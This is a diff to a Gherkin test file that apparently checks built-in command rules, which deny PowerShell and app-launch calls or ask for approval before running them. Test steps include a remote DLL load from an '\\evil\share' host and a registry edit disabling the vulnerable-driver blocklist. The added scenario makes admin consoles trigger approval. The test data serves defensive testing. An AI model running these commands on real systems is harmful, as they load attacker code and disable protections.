@@ -950,7 +950,7 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits rule "remote-code" with action "ask"
     When PowerShell is asked to run "Add-Type -Path \\evil\share\x.dll"
     Then the call hits rule "remote-code" with action "ask"
-    When PowerShell is asked to run "mmc compmgmt.msc"
+    When PowerShell is asked to run "control.exe C:\Windows\System32\desk.cpl"
     Then the call hits no rule
 
   @S-RULE-114
@@ -1255,4 +1255,16 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     When PowerShell is asked to run "reg add HKLM\SYSTEM\CurrentControlSet\Control\CI\Config /v VulnerableDriverBlocklistEnable /t REG_DWORD /d 0 /f"
     Then the call hits rule "security-weakening" with action "deny"
     When PowerShell is asked to run "Set-MpPreference -ThreatIDDefaultAction_Ids 2147519003 -ThreatIDDefaultAction_Actions 3"
+    Then the call hits no rule
+
+  @S-RULE-154
+  Scenario: Opening an administration console asks; importing a .reg file and ordinary settings do not count
+    Given the built-in command rules
+    When "App" is called with {"mode": "launch", "name": "Windows Security"}
+    Then the call hits rule "admin-console" with action "ask"
+    When PowerShell is asked to run "secpol.msc"
+    Then the call hits rule "admin-console" with action "ask"
+    When "App" is called with {"mode": "launch", "name": "Settings"}
+    Then the call hits no rule
+    When PowerShell is asked to run "Start-Process ms-settings:display"
     Then the call hits no rule
